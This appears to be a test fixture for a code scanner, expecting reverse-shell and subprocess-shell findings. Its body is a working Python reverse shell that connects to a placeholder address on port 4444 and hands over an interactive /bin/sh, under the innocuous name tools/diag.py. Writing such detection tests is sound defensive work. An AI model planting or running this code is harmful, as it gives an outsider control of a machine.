# expect: python.reverse_shell critical
# expect: python.subprocess_shell high
# path: tools/diag.py
import socket, subprocess

s = socket.create_connection(("203.0.113.7", 4444))
subprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno()).wait()
